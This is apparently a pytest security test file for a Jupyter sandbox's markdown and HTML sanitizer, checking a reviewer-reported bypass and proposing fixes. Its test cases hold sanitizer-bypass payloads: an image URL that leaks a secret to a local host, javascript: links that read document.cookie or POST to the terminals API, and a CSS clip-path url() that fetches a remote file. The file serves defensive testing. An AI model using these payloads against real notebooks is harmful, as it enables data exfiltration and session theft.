"""Outside review (3rd): markdown links and images with brackets in their text pass the sanitizer.

Attack (bypass of the active-content fix): the sandboxed cell displays
``Markdown('![chart [1] final](http://127.0.0.1:8000/leak?d=SECRET)')`` and
``[see [1] here](javascript:...)``. ``active_content.clean_markdown`` finds
link targets with ``\\[[^\\]]*\\]\\(``, which cannot match link text that holds
brackets; CommonMark (JupyterLab's marked, nbconvert's mistune) allows
balanced brackets there, so the frontend renders ``<img src="http://...">``
(the browser fetches it: data leaves past the sandbox's network policy,
no click needed) and a ``javascript:`` link. Also kept: the outer target of
``[![i](data:...)](javascript:...)``, and reference definitions inside a
block quote or list item (``> [r]: http://...`` then ``![a][r]``: the
definition regex wants it at a line start).

Judged from the host, at the protocol level (a real glsandbox kernel over
ZMQ): the relayed markdown, rendered by a CommonMark renderer (mistune, as
nbconvert does), has no image outside ``data:`` and no ``javascript:`` target.

Fix (suggested): ``active_content.py`` (``clean_markdown``): render the
markdown to HTML with a CommonMark parser (mistune/markdown-it) and
sanitize that with ``clean_html`` (sending ``text/html`` instead), or parse
link targets with the parser instead of a regex.
"""

from __future__ import annotations

import re

import pytest

from ..jupyter_fixtures import Kernel, glsandbox_kernelspec, kernel_made
from .test_outside_active_outputs import kernel

__all__ = ["glsandbox_kernelspec", "kernel"]  # the fixtures, imported for pytest

mistune = pytest.importorskip("mistune")

pytestmark = pytest.mark.timeout(180)

CASES = {
    "image": "![chart [1] final](http://127.0.0.1:8000/leak?d=SECRET)",
    "link": "[see [1] here](javascript:fetch('/api/terminals',{method:'POST'}))",
    "link-around-image": "[![i](data:image/png;base64,AA==)](javascript:alert(document.cookie))",
    "refdef-in-quote": "> [r]: http://127.0.0.1:8000/q.png\n\n![a][r]",
    "refdef-in-list": "- [r]: http://127.0.0.1:8000/l.png\n\n![a][r]",
}


@pytest.mark.parametrize("name", sorted(CASES))
def test_sandbox_markdown_has_no_remote_image_or_script_link(kernel: Kernel, name: str) -> None:
    cell = f"from IPython.display import display, Markdown\ndisplay(Markdown({CASES[name]!r}))"
    reply, outputs = kernel.execute(cell, timeout=60)
    assert reply["status"] == "ok", reply
    # the kernel may send the markdown, or its rendering, as sanitized text/html instead: both are judged
    shown = [
        m["content"]["data"]
        for m in outputs
        if m["msg_type"] == "display_data"
        and not kernel_made(m)
        and ("text/markdown" in m["content"]["data"] or "text/html" in m["content"]["data"])
    ]
    problems = []
    for data in shown:
        text = data.get("text/markdown")
        rendered = mistune.html(text) if text is not None else data["text/html"]
        problems += [
            f"img {src}"
            for src in re.findall(r'<img\b[^>]*\bsrc="([^"]*)"', rendered)
            if not src.startswith(("data:", "#"))
        ]
        problems += [f"link {t}" for t in re.findall(r"\]\((\s*javascript:[^)]*)", text or "", re.IGNORECASE)]
        problems += [f"href {t}" for t in re.findall(r'href="(\s*javascript:[^"]*)', rendered, re.IGNORECASE)]
    assert shown, f"{name}: the markdown output was not relayed at all"
    assert not problems, f"{name}: relayed markdown {shown} renders with {problems}"


def test_sandbox_html_styles_reference_no_remote_url(kernel: Kernel) -> None:
    """``clean_html`` keeps ``clip-path`` (an allowed style property) with ``url(http://...)``.

    nh3's style filter checks property names only; ``clip-path: url("http://host/c.svg#a")``
    makes Firefox fetch the external SVG: a request past the sandbox's network
    policy from a STRICT cell (no click). Judged from the host, at the protocol
    level: no relayed ``text/html`` has a ``url(`` to anything but ``#`` or ``data:``.
    Fix (suggested): ``active_content.py``: drop style values holding ``url(``
    unless the target is ``#...``/``data:image/`` (an attribute filter on ``style``).
    """
    html = '<div style="clip-path: url(http://127.0.0.1:8000/c.svg#a)">chart</div>'
    reply, outputs = kernel.execute(f"from IPython.display import display, HTML\ndisplay(HTML({html!r}))", timeout=60)
    assert reply["status"] == "ok", reply
    shown = [
        m["content"]["data"]["text/html"]
        for m in outputs
        if m["msg_type"] == "display_data" and not kernel_made(m) and "text/html" in m["content"]["data"]
    ]
    assert shown, "the HTML output was not relayed at all"
    remote = [u for text in shown for u in re.findall(r"url\(\s*(?:&quot;|[\"'])?([^)\"&]*)", text) if u[:1] != "#"]
    remote = [u for u in remote if not u.startswith("data:")]
    assert not remote, f"relayed sandbox HTML {shown} references {remote} from its styles"
